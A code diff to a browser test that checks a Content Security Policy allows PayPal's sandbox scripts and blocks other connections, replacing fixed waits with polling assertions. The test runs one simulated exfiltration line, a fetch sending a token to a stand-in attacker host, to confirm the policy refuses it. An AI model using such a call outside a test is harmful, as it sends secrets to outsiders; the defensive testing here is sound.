@@ -57,15 +57,15 @@ it('lets PayPal’s own script do what it has to, and nobody else’s', async ()
   await page.frameLocator('iframe').getByText('Frame').waitFor();
   const drawn = page.locator('#drawn');
   expect(await drawn.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
-  expect([...asked].toSorted()).toEqual([
-    'https://www.paypalobjects.com/more.js',
-    'https://www.sandbox.paypal.com/sdk/js',
-    'https://www.sandbox.paypal.com/smart/buttons',
-    'https://www.sandbox.paypal.com/xoplatform/logger',
-  ]);
+  await expect
+    .poll(() => [...asked].toSorted(), { timeout: 30_000 })
+    .toEqual([
+      'https://www.paypalobjects.com/more.js',
+      'https://www.sandbox.paypal.com/sdk/js',
+      'https://www.sandbox.paypal.com/smart/buttons',
+      'https://www.sandbox.paypal.com/xoplatform/logger',
+    ]);
   visit.expectNoConsoleErrors();
-  // The browser tells of it some time after it has refused.
-  const told = page.waitForEvent('pageerror');
   const sent = await page.evaluate(async () => {
     try {
       await fetch('https://evil.example/?token=1', { mode: 'no-cors' });
@@ -75,7 +75,7 @@ it('lets PayPal’s own script do what it has to, and nobody else’s', async ()
     }
   });
   expect([sent, [...asked].filter((address) => address.includes('evil'))]).toEqual([false, []]);
-  await told;
+  await expect.poll(visit.violations, { timeout: 30_000 }).toHaveLength(1);
   visit.allowConsoleError(/./);
   await expect(visit.close()).rejects.toThrow('connect-src kept out https://evil.example');
 });
